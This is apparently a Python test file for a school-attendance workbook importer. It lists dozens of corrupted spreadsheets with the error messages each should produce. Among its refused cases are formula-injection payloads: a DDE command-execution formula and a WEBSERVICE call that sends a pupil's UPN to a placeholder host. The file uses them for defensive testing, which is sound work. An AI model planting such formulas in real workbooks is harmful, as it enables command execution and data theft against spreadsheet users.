"""Returned workbooks, spoiled in more than fifty ways, each with what has to come of it: the right reading, or the cells told of."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable, Collection, Mapping
from dataclasses import dataclass
from typing import Any

from concern_samples import of
from openpyxl import Workbook as Book
from openpyxl import load_workbook
from openpyxl.comments import Comment
from openpyxl.utils.datetime import CALENDAR_MAC_1904
from openpyxl.worksheet.table import Table
from openpyxl.worksheet.worksheet import Worksheet

from attendance_helpers.register.support_form import (
    FORM_COLUMNS,
    IDENTITY_COLUMNS,
    INFORMATION_COLUMNS,
    SUPPORT_SHEET,
)
from attendance_helpers.register.support_table import column_letter

FIRST, PAST, PLANNED, FOURTH, SIXTH = of(1, 2, 3, 4, 6)
OTHER_SCHOOL = of(1, urn="900103")[0]
NAME = "Pupil Name4"  # of a pupil of the school
FORMULA = '=HYPERLINK("http://example.org","press")'
READ = ("Read me", "Groups", "Support history", "Actions so far", SUPPORT_SHEET, "Meeting", "Actions", "Lists")  # fmt: skip
FORMS = (SUPPORT_SHEET, "Meeting", "Actions")
_EVERY = [c.label for c in (*IDENTITY_COLUMNS, *INFORMATION_COLUMNS, *FORM_COLUMNS)]
LETTERS = {label: column_letter(at) for at, label in enumerate(_EVERY)}
Cells = Mapping[str, Any]
# What is written into the pack's workbook, by sheet and cell: two actions are carried forward, three are new.
MEETING: Cells = {
    **{"B2": dt.date(2026, 11, 23), "B3": "At the school", "B5": dt.date(2027, 3, 5), "F5": "at ten"},
    **{"B6": "Came", "C6": "Headteacher", "D6": "School", "E6": "A.B."},
    **{"B7": "Invited, did not come", "C7": "School nurse", "D7": "Other"},
    **{"B19": "Covered", "F19": FORMULA, "B20": "In part", "B26": "Not covered"},
    **{"B28": "First-day calls", "F28": "from 9:15", "B34": "Codes C and C2", "B37": "Breakfast club"},
}  # fmt: skip
ACTIONS: Cells = {
    **{"I2": "Done", "J2": "The bus is paid", "K2": dt.date(2026, 11, 20)},
    **{"I3": "Carried", "G3": dt.date(2026, 12, 18)},
    **{"B4": FOURTH, "C4": "Pupil", "D4": "Visit at home", "E4": "Attendance lead (CD)", "F4": "School"},
    **{"G4": dt.date(2026, 12, 4), "H4": "10 of 12 sessions", "M4": dt.date(2026, 12, 7)},
    **{"C5": "Cohort", "D5": FORMULA, "L5": "Girls", "E5": "Head of year", "G5": dt.date(2026, 12, 11)},
    **{"C6": "Coding", "D6": "+ look again at code N", "F6": "Local authority", "G6": dt.date(2027, 1, 8)},
}  # fmt: skip
PUPILS: Mapping[str, Cells] = {
    FIRST: {"Plan date": dt.date(2026, 11, 9), "Review date": dt.date(2026, 12, 14)},
    FOURTH: {"Early Help": "Offered", "Agreed approach": "A visit from both", "Stage": "2"},
}
# Columns of what is stored that are the file's own, or of the moment.
OWN = ("file", "row", "recorded")


@dataclass(frozen=True)
class Spoiled:
    """
    One way to spoil a workbook, and what has to come of it.

    `cells` are parts of the message with which it is refused, in their order; without any it is read, and says what the good one says but
    for the columns `less` of what is stored.
    """

    spoil: Callable[[bytes], bytes]
    cells: tuple[str, ...] = ()
    less: tuple[str, ...] = ()
    suffix: str = ".xlsx"


def written(page: Worksheet, cell: str, value: Any) -> None:
    """Write into a cell, text as text even where it begins with an equals sign."""
    page[cell].value = value
    if isinstance(value, str):
        page[cell].data_type = "s"


def good_workbook(pack: bytes, sheets: Collection[str] = READ) -> bytes:
    """Return the pack's workbook as an officer fills it in, with some of its sheets; the others are only looked at."""

    def fill(book: Book) -> None:
        for name in set(book.sheetnames) - set(sheets):
            del book[name]
        for name, cells in (("Meeting", MEETING), ("Actions", ACTIONS)):
            for cell, value in cells.items():
                written(book[name], cell, value)
        page = book[SUPPORT_SHEET]
        rows = {page[f"{LETTERS['UPN']}{n}"].value: n for n in range(2, page.max_row + 1)}
        for upn, values in PUPILS.items():
            for label, value in values.items():
                written(page, f"{LETTERS[label]}{rows[upn]}", value)

    return changed(fill)(pack)


def changed(change: Callable[[Book], object]) -> Callable[[bytes], bytes]:
    """Return a way to spoil: open the workbook, change something, save it."""

    def spoil(content: bytes) -> bytes:
        book = load_workbook(io.BytesIO(content))
        change(book)
        saved = io.BytesIO()
        book.save(saved)
        return saved.getvalue()

    return spoil


def cells(sheet: str, **values: Any) -> Callable[[bytes], bytes]:
    """Return a way to spoil: write into cells of one sheet."""

    def change(book: Book) -> None:
        for cell, value in values.items():
            written(book[sheet], cell, value)

    return changed(change)


def met(**values: Any) -> Callable[[bytes], bytes]:
    return cells("Meeting", **values)


def agreed(**values: Any) -> Callable[[bytes], bytes]:
    return cells("Actions", **values)


def on(sheet: str, change: Callable[[Worksheet], object]) -> Callable[[bytes], bytes]:
    """Return a way to spoil: change one sheet."""
    return changed(lambda book: change(book[sheet]))


def error(sheet: str, cell: str, kind: str = "#REF!") -> Callable[[bytes], bytes]:
    def change(page: Worksheet) -> None:
        page[cell].value, page[cell].data_type = kind, "e"

    return on(sheet, change)


def formula(sheet: str, cell: str, text: str) -> Callable[[bytes], bytes]:
    """Return a way to spoil: a formula that no program has calculated yet."""

    def change(page: Worksheet) -> None:
        page[cell].value, page[cell].data_type = text, "f"

    return on(sheet, change)


def without(*sheets: str) -> Callable[[bytes], bytes]:
    def change(book: Book) -> None:
        for sheet in sheets:
            del book[sheet]

    return changed(change)


def renamed(sheet: str, to: str) -> Callable[[bytes], bytes]:
    return on(sheet, lambda page: setattr(page, "title", to))


def parts(change: Callable[[str, bytes], bytes], **added: bytes) -> Callable[[bytes], bytes]:
    """Return a way to spoil: change the parts that the file is packed of, and add some (with / for __)."""

    def spoil(content: bytes) -> bytes:
        made = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w") as new:
            for name in old.namelist():
                new.writestr(name, change(name, old.read(name)))
            for name, more in added.items():
                new.writestr(name.replace("__", "/"), more)
        return made.getvalue()

    return spoil


def same(name: str, content: bytes) -> bytes:
    return content


def cell_xml(sheet: str, cell: str, xml: str) -> Callable[[bytes], bytes]:
    """Return a way to spoil: write a cell of a sheet as other programs do; {s} is its style."""

    def spoil(content: bytes) -> bytes:
        names = load_workbook(io.BytesIO(content), read_only=True).sheetnames
        part = f"xl/worksheets/sheet{names.index(sheet) + 1}.xml"
        pattern = rf'<c r="{cell}"( s="\d+")?[^>]*?(/>|>.*?</c>)'.encode()

        def change(name: str, old: bytes) -> bytes:
            if name != part:
                return old
            new, count = re.subn(
                pattern, lambda m: xml.replace("{s}", (m[1] or b"").decode()).encode(), old
            )
            assert count == 1
            return new

        return parts(change)(content)

    return spoil


def sorted_rows(page: Worksheet) -> None:
    """Sort whole rows downwards, as a spreadsheet program does."""
    rows = [[cell.value for cell in row] for row in page.iter_rows(min_row=2)]
    for at, values in enumerate(reversed(rows), start=2):
        for place, value in enumerate(values, start=1):
            page.cell(at, place).value = value
            if isinstance(value, str):
                page.cell(at, place).data_type = "s"


def more_rows(row: str, *sheets: str, first: int = 100) -> Callable[[bytes], bytes]:
    """Return a way to spoil: rows of the same kind, up to the fifty thousandth, at the end of sheets; {n} is the number of a row."""

    def spoil(content: bytes) -> bytes:
        names = load_workbook(io.BytesIO(content), read_only=True).sheetnames
        changed_parts = {f"xl/worksheets/sheet{names.index(name) + 1}.xml" for name in sheets}
        rows = "".join(row.replace("{n}", str(n)) for n in range(first, 50_001)).encode()

        def change(name: str, old: bytes) -> bytes:
            assert name not in changed_parts or old.count(b"</sheetData>") == 1
            return (
                old.replace(b"</sheetData>", rows + b"</sheetData>")
                if name in changed_parts
                else old
            )

        return parts(change)(content)

    return spoil


def hidden(book: Book) -> None:
    book["Meeting"].sheet_state = "hidden"
    book["Actions"].row_dimensions.group(3, 6, hidden=True)
    book["Actions"].column_dimensions["G"].hidden = True
    book["Actions"].auto_filter.add_filter_column(2, ["Pupil"])


def decorated(book: Book) -> None:
    """A comment, a table, a locked sheet, no rules, other fonts: nothing that is written in cells."""
    page = book["Actions"]
    page.auto_filter.ref = None
    page.add_table(Table(displayName="Agreed", ref="A1:O61"))
    page["D4"].comment = Comment(NAME, "An officer")
    page.protection.enable()
    page.data_validations.dataValidation.clear()
    book["Meeting"].protection.enable()


def texts_as_pasted(page: Worksheet) -> None:
    for row in page.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value:
                cell.value = f"\u00a0 {cell.value} \t"
                cell.data_type = "s"


def dates_as(pattern: str) -> Callable[[bytes], bytes]:
    """Return a way to spoil: every date of the two sheets as text in one order."""

    def change(book: Book) -> None:
        for name in ("Meeting", "Actions"):
            for row in book[name].iter_rows():
                for cell in row:
                    if isinstance(cell.value, dt.datetime):
                        cell.value = cell.value.strftime(pattern)

    return changed(change)


def with_times(book: Book) -> None:
    for name in ("Meeting", "Actions"):
        for row in book[name].iter_rows():
            for cell in row:
                if isinstance(cell.value, dt.datetime):
                    cell.value = cell.value.replace(hour=14, minute=30)


def copied(sheet: str, **values: Any) -> Callable[[bytes], bytes]:
    """Return a way to spoil: a copy of a sheet beside it, with something else written in it."""

    def change(book: Book) -> None:
        copy = book.copy_worksheet(book[sheet])
        copy.title = f"{sheet} (2)"
        for cell, value in values.items():
            written(copy, cell, value)

    return changed(change)


def header_gone(page: Worksheet) -> None:
    page.delete_rows(1)


def second_due(page: Worksheet) -> None:
    page["P1"], page["P4"] = "Due", dt.date(2026, 12, 5)


SAME: Mapping[str, Spoiled] = {
    "nothing": Spoiled(changed(lambda book: None)),
    "rows sorted downwards": Spoiled(
        changed(lambda b: [sorted_rows(b[n]) for n in ("Meeting", "Actions")])
    ),
    "a title above both forms": Spoiled(
        changed(lambda b: [b[n].insert_rows(1, 2) for n in ("Meeting", "Actions")])
    ),
    "merged title": Spoiled(on("Actions", lambda p: (p.insert_rows(1), p.merge_cells("A1:O1")))),
    "merged cells without content": Spoiled(on("Actions", lambda p: p.merge_cells("D20:F22"))),
    "a column inserted": Spoiled(on("Actions", lambda p: p.insert_cols(5))),
    "columns moved": Spoiled(on("Actions", lambda p: p.move_range("G1:G61", cols=12))),
    "headers in capitals": Spoiled(
        on("Actions", lambda p: [setattr(c, "value", f" {c.value.upper()}:") for c in p[1]])
    ),
    "another header for due": Spoiled(agreed(G1="Due date")),
    "blank rows deleted": Spoiled(on("Actions", lambda p: p.delete_rows(7, 60))),
    "sheets in another order": Spoiled(changed(lambda b: b.move_sheet("Actions", -6))),
    "sheets renamed in another case": Spoiled(
        changed(
            lambda b: (
                setattr(b["Meeting"], "title", "MEETING "),
                setattr(b["Actions"], "title", "actions"),
            )
        )
    ),
    "the sheet of actions renamed": Spoiled(renamed("Actions", "Agreed on Monday")),
    "sheets that are only looked at deleted": Spoiled(
        without("Support history", "Actions so far", "Lists")
    ),
    "the headline deleted": Spoiled(without("Groups"), less=("figures",)),
    "Read me deleted": Spoiled(without("Read me"), less=("form", "window")),
    "no date of the data in Read me": Spoiled(
        on(
            "Read me",
            lambda p: [
                p.delete_rows(n)
                for n in range(p.max_row, 1, -1)
                if p.cell(n, 1).value == "Data as at"
            ],
        ),
        less=("form",),
    ),
    "hidden sheet, rows and columns": Spoiled(changed(hidden)),
    "comment, table, protection, no rules": Spoiled(changed(decorated)),
    "blanks around every text": Spoiled(
        changed(lambda b: [texts_as_pasted(b[n]) for n in ("Meeting", "Actions")])
    ),
    "an untouched copy of the form": Spoiled(copied("Meeting")),
    "dates day first": Spoiled(dates_as("%d/%m/%Y")),
    "dates day first with two digits": Spoiled(dates_as("%d.%m.%y")),
    "dates year first": Spoiled(dates_as("%Y-%m-%d")),
    "dates in words": Spoiled(dates_as("%A %d %B %Y")),
    "dates with times": Spoiled(changed(with_times)),
    "dates counted from 1904": Spoiled(changed(lambda b: setattr(b, "epoch", CALENDAR_MAC_1904))),
    "other words for the choices": Spoiled(
        agreed(I2="completed", I3="c/f", F6="LA", C6="CODES", L5="girls")
    ),
    "choices left to the form": Spoiled(agreed(C4=None, C5=None, B4=FOURTH.lower())),
    "a formula with its result": Spoiled(
        cell_xml(
            "Actions",
            "D4",
            '<c r="D4"{s} t="str"><f>CONCATENATE("Visit ","at home")</f><v>Visit at home</v></c>',
        )
    ),
    "a date that was calculated": Spoiled(
        cell_xml("Actions", "G4", '<c r="G4"{s}><f>TODAY()+14</f><v>46360</v></c>')
    ),
    "a formula whose result is empty": Spoiled(
        cell_xml("Actions", "D9", '<c r="D9"{s} t="str"><f>IF(1,"")</f><v></v></c>')
    ),
    "a date as other programs write it": Spoiled(
        cell_xml("Meeting", "B2", '<c r="B2"{s} t="d"><v>2026-11-23T00:00:00</v></c>')
    ),
    "text in pieces": Spoiled(
        cell_xml(
            "Actions",
            "D4",
            '<c r="D4"{s} t="inlineStr"><is><r><t xml:space="preserve">Visit </t></r><r><rPr><b/></rPr><t>at home</t></r></is></c>',
        )
    ),
    "fifty thousand empty rows": Spoiled(
        more_rows(
            '<row r="{n}" s="1" customFormat="1"><c r="C{n}" s="1"/><c r="D{n}" s="1"></c></row>',
            *FORMS,
        )
    ),
    "fifty thousand rows with a number": Spoiled(
        more_rows('<row r="{n}"><c r="A{n}" t="str"><v>20261120-{n}</v></c></row>', "Actions")
    ),
    "fifty thousand rows of blanks": Spoiled(
        more_rows(
            '<row r="{n}"><c r="D{n}" t="inlineStr"><is><t xml:space="preserve">  </t></is></c></row>',
            *FORMS,
        )
    ),
}
DAY = "expected a date such as 12/10/2026"
NO_NAME = "expected no pupil's name or UPN; choose the UPN in the column Pupil UPN of the sheet Actions, found one"
FORM_ERROR = "expected a value, not a formula's error, found"
ROLE = "expected a role of the cell's list (one that is missing is added to record.roles)"
MACROS = ("expected an Excel workbook without macros (.xlsx), found",)
APPROACH = LETTERS["Agreed approach"]
REFUSED: Mapping[str, Spoiled] = {
    # wrong types
    "a number as text for the date": Spoiled(
        met(B2="46349"), (f"Meeting!B2: {DAY}, found '46349'",)
    ),
    "a number without a format for a date": Spoiled(
        cell_xml("Actions", "G4", '<c r="G4"><v>46360</v></c>'),
        (f"Actions!G4: {DAY}, found '46360'",),
    ),
    "yes for a date": Spoiled(
        cell_xml("Meeting", "B2", '<c r="B2" t="b"><v>1</v></c>'),
        (f"Meeting!B2: {DAY}, found other words",),
    ),
    "words for a date": Spoiled(
        agreed(G4="when Pupil Name4 is back"), (f"Actions!G4: {DAY}, found other words",)
    ),
    "a date for a choice": Spoiled(
        agreed(I4=dt.date(2026, 11, 20)),
        ("Actions!I4: expected 'Open', 'Done', 'Carried' or 'Stopped', found '2026-11-20'",),
    ),
    "a number for an owner": Spoiled(agreed(E4=7), (f"Actions!E4: {ROLE}",)),
    "a date for a number": Spoiled(
        agreed(A4=dt.date(2026, 11, 20)), ("Actions!A4: expected the number of the form",)
    ),
    "a name for a UPN": Spoiled(
        agreed(B4=NAME),
        (
            "Actions!B4: expected a UPN that is in the list of pupils of school 900101, found one that is not",
        ),
    ),
    "a UPN of another school": Spoiled(
        agreed(B4=OTHER_SCHOOL), ("Actions!B4: expected a UPN that is in the list",)
    ),
    "a date beyond reason": Spoiled(
        agreed(G4=dt.date(2062, 12, 4)),
        ("Actions!G4: expected a date from 01/01/2000 to 20/11/2029",),
    ),
    "a serial number below zero": Spoiled(
        cell_xml("Actions", "G4", '<c r="G4"{s}><v>-5</v></c>'), (f"Actions!G4: {DAY}",)
    ),
    "one beyond all years": Spoiled(
        cell_xml("Actions", "G4", '<c r="G4"{s}><v>99999999</v></c>'), (f"Actions!G4: {DAY}",)
    ),
    # merged cells
    "merged people": Spoiled(
        on("Meeting", lambda p: p.merge_cells("B6:B8")),
        ("Meeting!B6:B8: expected single cells, found merged ones",),
    ),
    "merged actions": Spoiled(
        on("Actions", lambda p: p.merge_cells("D4:D6")),
        ("Actions!D4:D6: expected single cells, found merged ones",),
    ),
    "merged across columns": Spoiled(
        on("Actions", lambda p: p.merge_cells("E4:F4")), ("Actions!E4:F4: expected single cells",)
    ),
    "merged approaches": Spoiled(
        on(
            SUPPORT_SHEET,
            lambda p: (
                written(p, f"{APPROACH}30", "Both"),
                p.merge_cells(f"{APPROACH}30:{APPROACH}32"),
            ),
        ),
        (f"{SUPPORT_SHEET}!{APPROACH}30:{APPROACH}32: expected single cells",),
    ),
    # deleted sheets
    "Meeting deleted": Spoiled(without("Meeting"), ("found 'Actions' filled in and no 'Meeting'",)),
    "Actions deleted": Spoiled(without("Actions"), ("found 'Meeting' filled in and no 'Actions'",)),
    "the pupils' form deleted": Spoiled(
        without(SUPPORT_SHEET), (f"expected a sheet '{SUPPORT_SHEET}'",)
    ),
    "all forms deleted": Spoiled(
        without(SUPPORT_SHEET, "Meeting", "Actions"), (f"expected a sheet '{SUPPORT_SHEET}'",)
    ),
    # renamed headers
    "a header in other words": Spoiled(
        agreed(G1="By when"),
        (
            "Actions: expected the form's columns Due, found other columns with content (headers in G1)",
        ),
    ),
    "the header of the number": Spoiled(
        agreed(A1="Nr"),
        (
            "Actions: expected the form's columns Action ID, found other columns with content (headers in A1)",
        ),
    ),
    "the header of the text": Spoiled(
        agreed(D1="We agreed"),
        (
            "Actions: expected the form's columns Action, found other columns with content (headers in D1)",
        ),
    ),
    "a header emptied": Spoiled(
        met(F1=None),
        (
            "Meeting: expected the form's columns Note, found other columns with content (headers in F1)",
        ),
    ),
    "a header of the meeting": Spoiled(
        met(B1="Answer"),
        (
            "Meeting: expected the form's columns Entry, found other columns with content (headers in B1)",
        ),
    ),
    "the header row deleted": Spoiled(
        on("Actions", header_gone),
        ("Actions: expected the form's columns Action ID, Action, found no such header",),
    ),
    "the header row of the meeting deleted": Spoiled(
        on("Meeting", header_gone),
        ("Meeting: expected the form's columns About, Entry, found no such header",),
    ),
    "two columns of one header": Spoiled(
        on("Actions", second_due),
        ("Actions: expected one column Due, found two that differ: G and P",),
    ),
    "a header of the pupils' form": Spoiled(
        cells(SUPPORT_SHEET, **{f"{LETTERS['Plan date']}1": "Planned"}),
        ("expected the form's columns Plan date",),
    ),
    # labels
    "a label in other words": Spoiled(
        met(A2="When"),
        (
            "Meeting!B1: expected a row 'Date of the meeting'",
            "Meeting!A2: expected one of the form's labels",
        ),
    ),
    "two dates of the meeting": Spoiled(
        met(A50="Date of the meeting", B50=dt.date(2026, 11, 24)),
        (
            "Meeting!B50: expected one row Date of the meeting (there is one in row 2), found a second one",
        ),
    ),
    "the date deleted": Spoiled(
        met(B2=None), (f"Meeting!B2: {DAY}, the date of the meeting, found nothing",)
    ),
    "a meeting of the year before": Spoiled(
        met(B2=dt.date(2025, 11, 24)),
        ("Meeting!B2: expected a date from 21/09/2026 to 20/11/2027",),
    ),
    "a next meeting before this": Spoiled(
        met(B5=dt.date(2026, 3, 5)), ("Meeting!B5: expected a date after that of the meeting",)
    ),
    "written beside the form": Spoiled(
        met(B3="At the school", F3="Room 4"),
        ("Meeting!F3: expected nothing: that row has no use for it",),
    ),
    # formulas
    "a date not calculated": Spoiled(
        formula("Meeting", "B2", "=TODAY()"), (f"Meeting!B2: {FORM_ERROR} '#VALUE!'",)
    ),
    "an action not calculated": Spoiled(
        formula("Actions", "D6", "=D4"), (f"Actions!D6: {FORM_ERROR} '#VALUE!'",)
    ),
    "a reference that is lost": Spoiled(
        error("Actions", "B4"), (f"Actions!B4: {FORM_ERROR} '#REF!'",)
    ),
    "a name that is unknown": Spoiled(
        error("Actions", "E5", "#NAME?"), (f"Actions!E5: {FORM_ERROR} '#NAME?'",)
    ),
    "a number that is an error": Spoiled(
        error("Actions", "A5", "#N/A"), (f"Actions!A5: {FORM_ERROR} '#N/A'",)
    ),
    "an error in a blank row": Spoiled(
        error("Actions", "H40", "#DIV/0!"), (f"Actions!H40: {FORM_ERROR} '#DIV/0!'",)
    ),
    "an error among the pupils": Spoiled(
        error(SUPPORT_SHEET, f"{APPROACH}30"),
        (f"{SUPPORT_SHEET}!{LETTERS['UPN']}30: expected a UPN",),
    ),
    # injected formulas
    "an injected link": Spoiled(
        formula("Actions", "D4", FORMULA), (f"Actions!D4: {FORM_ERROR} '#VALUE!'",)
    ),
    "an injected command": Spoiled(
        formula("Meeting", "F19", "=cmd|'/C calc'!A0"), (f"Meeting!F19: {FORM_ERROR}",)
    ),
    "an injected call": Spoiled(
        formula("Actions", "J4", '=WEBSERVICE("http://example.org/"&B4)'),
        (f"Actions!J4: {FORM_ERROR}",),
    ),
    "text that begins as a formula in a choice": Spoiled(
        agreed(I4=FORMULA),
        ("Actions!I4: expected 'Open', 'Done', 'Carried' or 'Stopped', found other words",),
    ),
    "one in a date": Spoiled(met(B5=FORMULA), (f"Meeting!B5: {DAY}, found other words",)),
    # dates
    "dates month first": Spoiled(
        dates_as("%m/%d/%Y"),
        (
            f"Meeting!B2: {DAY}, the day first (this form has dates with the month first), found '11/23/2026'",
            "Meeting!B5:",
            "Actions!K2:",
            "Actions!G3:",
            "Actions!G4:",
        ),
    ),
    "one date month first": Spoiled(
        agreed(G4="12/31/2026", G5="04/12/2026"),
        ("Actions!G4: expected", "Actions!G5: expected a date such as 12/10/2026, the day first"),
    ),
    "no such day": Spoiled(agreed(G4="31/11/2026"), (f"Actions!G4: {DAY}, found '31/11/2026'",)),
    "another weekday": Spoiled(
        met(B2="Tuesday 23 November 2026"),
        (f"Meeting!B2: {DAY}, found 'Tuesday 23 November 2026'",),
    ),
    "closed before it was agreed": Spoiled(
        agreed(K2=dt.date(2026, 9, 20)),
        ("Actions!K2: expected a date not before the action was agreed (21/09/2026)",),
    ),
    # rows that do not fit
    "two rows of one number": Spoiled(
        agreed(A5="20261120-01"),
        ("Actions!A5: expected a number of its own, found one that A4 has too",),
    ),
    "a row copied": Spoiled(
        on("Actions", lambda p: [written(p, f"{c.column_letter}30", c.value) for c in p[4]]),
        ("Actions!A30: expected a number of its own, found one that A4 has too",),
    ),
    "no action": Spoiled(
        agreed(D4=None), ("Actions!D4: expected what is to be done, found nothing",)
    ),
    "a pupil and a cohort": Spoiled(
        agreed(L4="Girls"), ("Actions!L4: expected a pupil or a cohort, not both",)
    ),
    "stopped without a reason": Spoiled(
        agreed(I3="Stopped"), ("Actions!J3: expected the reason why the action was stopped",)
    ),
    "closed and open": Spoiled(
        agreed(K4=dt.date(2026, 11, 23)), ("Actions!K4: expected nothing while the status is Open",)
    ),
    "a second filled sheet of actions": Spoiled(
        copied("Actions", D4="Ring"), ("found two: 'Actions' and 'Actions (2)'",)
    ),
    "a second filled sheet of pupils": Spoiled(copied(SUPPORT_SHEET), ("found a second one",)),
    "the form of another school": Spoiled(
        cells("Read me", B2="Another (URN 900103)"),
        (f"Read me!B2: expected the school of the sheet '{SUPPORT_SHEET}', found '900103'",),
    ),
    # names
    "a name for a role": Spoiled(
        met(C6="Ms A. Other"), (f"Meeting!C6: {ROLE}, found other words",)
    ),
    "a name for an owner": Spoiled(agreed(E4="Ms A. Other"), (f"Actions!E4: {ROLE}",)),
    "a pupil's name in a note": Spoiled(
        met(F20=f"{NAME.upper()}'s bus"), (f"Meeting!F20: {NO_NAME}",)
    ),
    "a pupil's name the other way round": Spoiled(
        agreed(H4="Name4, Pupil: ten sessions"), (f"Actions!H4: {NO_NAME}",)
    ),
    "a UPN in the text": Spoiled(agreed(D6=f"Look at {FIRST}"), (f"Actions!D6: {NO_NAME}",)),
    # several at once, in the order of sheets
    "faults on every form": Spoiled(
        changed(
            lambda b: (
                written(b[SUPPORT_SHEET], f"{LETTERS['Plan date']}30", "soon"),
                written(b["Meeting"], "B6", "late"),
                written(b["Actions"], "C4", "Bus"),
            )
        ),
        (f"{SUPPORT_SHEET}!{LETTERS['UPN']}30", "Meeting!B6", "Actions!C4"),
    ),
    # no workbook of ours
    "macros": Spoiled(parts(same, **{"xl__vbaProject.bin": b"code"}), MACROS),
    "macros by its name": Spoiled(changed(lambda book: None), MACROS, suffix=".xlsm"),
    "macros of an old kind": Spoiled(
        parts(same, **{"xl__macrosheets__sheet1.xml": b"<x/>"}), MACROS
    ),
    "an old workbook": Spoiled(lambda content: content, MACROS, suffix=".xls"),
    "a table of text": Spoiled(
        lambda content: b"About,Entry\nDate of the meeting,23/11/2026\n",
        ("expected a spreadsheet",),
    ),
    "a page": Spoiled(
        lambda content: b"<html><table><tr><td>Action ID</td></tr></table></html>",
        ("expected a spreadsheet",),
    ),
    "half a file": Spoiled(
        lambda content: content[: len(content) // 2], ("expected a spreadsheet",)
    ),
    "an empty file": Spoiled(lambda content: b"", ("found an empty file",)),
    "locked with a password": Spoiled(
        lambda content: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
        ("expected a spreadsheet",),
    ),
    "half a sheet": Spoiled(
        parts(lambda name, c: c[: len(c) // 2] if name.endswith("sheet1.xml") else c),
        ("[Read me]: expected a sheet that can be read",),
    ),
    "a sheet that is not there": Spoiled(
        parts(lambda name, c: c.replace(b"worksheets/sheet2.xml", b"worksheets/sheet99.xml")),
        ("expected",),
    ),
    "something at the far end": Spoiled(
        cells("Meeting", XFD1048576="x"),
        ("Meeting!XFD1048576: expected nothing so far from the rest of its sheet",),
    ),
}
EVERY: Mapping[str, Spoiled] = {**SAME, **REFUSED}
